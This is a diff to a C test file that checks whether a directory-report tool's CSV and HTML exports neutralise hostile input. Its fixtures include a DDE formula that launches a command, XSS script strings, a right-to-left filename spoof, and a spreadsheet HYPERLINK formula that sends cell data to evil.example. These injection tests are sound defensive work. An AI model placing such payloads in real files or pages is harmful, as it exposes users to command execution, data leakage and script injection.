@@ -301,6 +301,9 @@ make_hostile_report (guint n_objects)
                               "<script>alert('x')</script> is claimed by 2 objects",
                               "Detail with " RLO "gpj.exe and invalid \xff\xfe UTF-8");
   dsc_finding_set_fix_steps (f, steps);
+  /* A conflict's diagnosis and links reach CSV and HTML too. */
+  dsc_finding_set_diagnosis (f, "decide", g_strdup ("=cmd|' /C calc'!A0"),
+                             g_strdup ("-Advice <b>bold</b>"));
   for (guint i = 0; i < n_objects; i++)
     {
       g_autoptr(DscDirectoryObject) o = dsc_directory_object_new (i % 3);
@@ -327,7 +330,8 @@ make_hostile_report (guint n_objects)
       o->user_principal_name = g_strdup_printf ("+user%u@contoso.com", i);
       o->mail = g_strdup ("-2+3");
       dsc_finding_add_object (f, o, i % 2 ? "ProxyAddress" : "Evil\"Attr\\\n",
-                              "\rsmtp:sales@contoso.com", T0 - 60, i % 2 == 0);
+                              "\rsmtp:sales@contoso.com", T0 - 60, i % 2 == 0)->admin_url =
+        g_strdup ("https://entra.example/#\"><script>alert(1)</script>");
       dsc_directory_object_add_error (o, "PropertyConflict",
                                       i % 2 ? "ProxyAddress" : "Evil\"Attr\\\n",
                                       "\rsmtp:sales@contoso.com", T0 - 60);
@@ -359,7 +363,11 @@ test_hostile_csv (void)
   assert_no_rlo_and_valid (text, length);
   g_assert_true (g_str_has_prefix (copy, "\xef\xbb\xbf" "category,severity,finding,object type,"
                                    "display name,UPN,mail,object id,attribute,value,in error,"
-                                   "since,on-premises DN,suggested fix\r\n"));
+                                   "since,on-premises DN,suggested fix,role,diagnosis,advice,"
+                                   "admin center\r\n"));
+  /* The conflict's columns: role, diagnosis and advice neutralized. */
+  g_assert_nonnull (strstr (copy, ",quarantined,'=cmd|' /C calc'!A0,'-Advice <b>bold</b>,"
+                                  "\"https://entra.example/#\"\"><script>"));
   /* Every cell that a spreadsheet would evaluate starts with a quote. */
   g_assert_nonnull (strstr (copy, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"
                                   "\"\"Click\"\")\","));
@@ -367,7 +375,7 @@ test_hostile_csv (void)
   /* Quoted: LibreOffice splits at tabs and ';' by default. */
   g_assert_nonnull (strstr (copy, ",\"'@SUM(1+1)\t<script>alert(1)</script>\","));
   g_assert_nonnull (strstr (copy, ",\"'\rsmtp:sales@contoso.com\","));
-  g_assert_nonnull (strstr (copy, "2026-11-23T18:54:02Z,,\r\n"));
+  g_assert_nonnull (strstr (copy, "2026-11-23T18:54:02Z,,,"));
   g_assert_null (strstr (copy, ",=")); g_assert_null (strstr (copy, ",+"));
   g_assert_null (strstr (copy, ",-")); g_assert_null (strstr (copy, ",@"));
   g_assert_null (strstr (copy, ",\"=")); g_assert_null (strstr (copy, ",\"+"));
